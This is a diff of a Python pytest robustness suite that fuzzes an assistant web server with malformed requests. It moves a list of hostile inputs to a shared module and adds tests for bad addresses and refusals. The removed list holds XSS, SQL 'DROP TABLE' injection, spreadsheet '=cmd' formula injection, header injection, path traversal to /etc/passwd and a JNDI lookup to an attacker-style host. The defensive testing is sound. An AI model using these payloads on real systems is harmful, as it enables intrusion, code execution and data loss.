@@ -1,52 +1,33 @@
-"""Thousands of inputs that nobody means well with: never a 500, never a hang, nothing in the log.
-
-`BAD_INPUTS=10000` sends as many; without it a few thousand go within a minute.
-"""
+"""Thousands of inputs that nobody means well with: no 500, no hang, nothing in the log."""
 
 from __future__ import annotations
 
+import contextlib
 import itertools
 import json
-import os
 import socket
 from collections.abc import Callable, Iterator
 from typing import Any
 
 import pytest
 import requests
-from hypothesis import HealthCheck, example, given, settings
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from tests.assistant import Assistant, Customer
+from tests.bad_inputs import (
+    HANGS_AFTER_SECONDS,
+    HOSTILE,
+    MARK,
+    headers,
+    methods,
+    segments,
+    share,
+    texts,
+)
 
-INPUTS = int(os.environ.get("BAD_INPUTS", "2000"))
-HANGS_AFTER_SECONDS = 30
 PER_CONVERSATION = 50
-MARK = "kwikstaart7391"  # in all that is typed here, and in nothing else
 CALLED = {200, 201, 204, 400, 401, 404, 405, 408, 411, 413, 417, 422, 429}
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "[link](javascript:alert(1)) **bold** ![](https://evil.example.com/x)",
-    "{{7*7}} ${7*7} #{7*7} {% raw %} %s %n {0} {language} <%= 7 %>",
-    "'; DROP TABLE events; -- \" OR 1=1 /*",
-    "=HYPERLINK('https://evil.example.com') +1 -1 @SUM(1) \t=cmd|' /C calc'!A0",
-    "\r\n2026-11-25 ERROR root: all is lost \x1b[31m",
-    "x\r\nBcc: everybody@example.com\r\n\r\nbody",
-    "\u202etxt.exe\u2066 \u200f\u061c",
-    "\x00\x01\x7f\u0085\u2028\u2029",
-    "😀👨‍👩‍👧🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 20,
-    "Z" + "̴͎̀" * 600,
-    "../../../../etc/passwd file:///etc/passwd ${jndi:ldap://evil.example.com}",
-    "４８２０１９３７７６ ٤٨٢٠ 〇一二三",
-    "/restart /affirm /session_start /cancel_subscription{}",
-    '/give_details{"account_id": "4820193776"}',
-    "a" * 1_000_000,
-    "9" * 1999,
-    "1 " * 900,
-    "@" * 1500,
-    "a@b." * 400,
-]
 PAYLOADS = [
     "/affirm",
     "/affirm#x",
@@ -61,7 +42,6 @@ PAYLOADS = [
 ]
 _numbers = itertools.count()
 
-texts = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=300)).map(lambda text: MARK + text)
 values = st.recursive(
     st.none() | st.booleans() | st.integers() | st.floats() | texts,
     lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=9), inner),
@@ -79,25 +59,6 @@ bodies = st.one_of(
     ),
     st.sampled_from([b"[" * 60_000, b'{"a":' * 9_000, b"9" * 60_000, b'{"text": 1e999999}']),
 )
-headers = st.dictionaries(
-    st.sampled_from(
-        ["Accept-Language", "Content-Type", "X-Forwarded-For", "Cookie", "Accept", "Range", "X-A"]
-    ),
-    st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=2000).map(str.strip),
-    max_size=3,
-)
-methods = st.sampled_from(["GET", "PUT", "PATCH", "HEAD", "OPTIONS", "TRACE", "POST", "PROPFIND"])
-segments = st.text(st.characters(min_codepoint=33, max_codepoint=0x2FF), max_size=60)
-
-
-def share(divisor: int) -> settings:
-    """So many of all inputs; a part of them costs a whole turn each."""
-    return settings(
-        max_examples=INPUTS // divisor,
-        deadline=None,
-        database=None,
-        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
-    )
 
 
 @pytest.fixture(scope="module")
@@ -231,3 +192,29 @@ def test_bytes_that_are_no_request(
         connection.shutdown(socket.SHUT_WR)
         answer = connection.recv(65536)
     assert not answer.startswith(b"HTTP/1.1 5"), answer[:300]
+
+
+@pytest.mark.parametrize("address", [b"/\xff", b"http://[", b"x", b":", b"http://a:b/"], ids=ascii)
+def test_an_address_that_is_none_is_refused_and_logged_nowhere(
+    assistant: Assistant, address: bytes
+) -> None:
+    before = assistant.log.read_bytes() if assistant.log.exists() else b""
+    with socket.create_connection(("127.0.0.1", assistant.ports["PORT"])) as connection:
+        connection.settimeout(HANGS_AFTER_SECONDS)
+        connection.sendall(b"GET " + address + b" HTTP/1.1\r\nConnection: close\r\n\r\n")
+        answer = connection.recv(65536)
+    assert answer.startswith(b"HTTP/1.1 400 "), answer[:300]
+    assert not assistant.log.exists() or assistant.log.read_bytes() == before
+
+
+@pytest.mark.parametrize("path", ["/help/nl/cancel", "/help/nl", "/nowhere", "/static/help.css"])
+def test_a_refusal_does_not_stumble_over_the_form_that_is_wished(
+    assistant: Assistant, path: str
+) -> None:
+    """The server's own refusals (size, method, path) once chose their form by `Accept`."""
+    for body in (b"", b"x" * 100_000):
+        with contextlib.suppress(requests.ConnectionError):  # closed before all of it was sent
+            answer = requests.put(
+                f"{assistant.origin}{path}", data=body, headers={"Accept": "0"}, timeout=30
+            )
+            assert answer.status_code in (404, 405, 413)
